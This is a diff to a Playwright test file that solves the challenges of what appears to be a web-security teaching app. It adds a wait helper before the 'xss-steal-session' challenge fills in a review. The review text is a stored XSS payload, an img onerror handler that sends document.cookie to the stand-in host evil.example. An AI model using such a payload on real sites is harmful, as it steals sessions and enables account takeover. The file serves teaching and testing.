@@ -1,7 +1,7 @@
 /** Every challenge solved through the screen alone, as a student would, and wrong paths answered. */
 import type { Page } from '@playwright/test';
 import { CHALLENGES } from '../src/lessons/activities';
-import { expect, test } from './fixtures';
+import { atRest, expect, test } from './fixtures';
 
 async function openChallenge(page: Page, id: string, lang = 'en') {
   await page.goto(`./?lang=${lang}&challenge=${id}`);
@@ -321,6 +321,8 @@ const SOLVE: Record<string, (page: Page) => Promise<void>> = {
   'xss-steal-session': async (page) => {
     const reviews = shop(page);
     await reviews.getByRole('button', { name: 'Reviews' }).click();
+    // Firefox already shows the review page: what is typed before the new one arrives is lost.
+    await atRest(page);
     await reviews
       .getByLabel('Your review')
       .fill(`<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`);
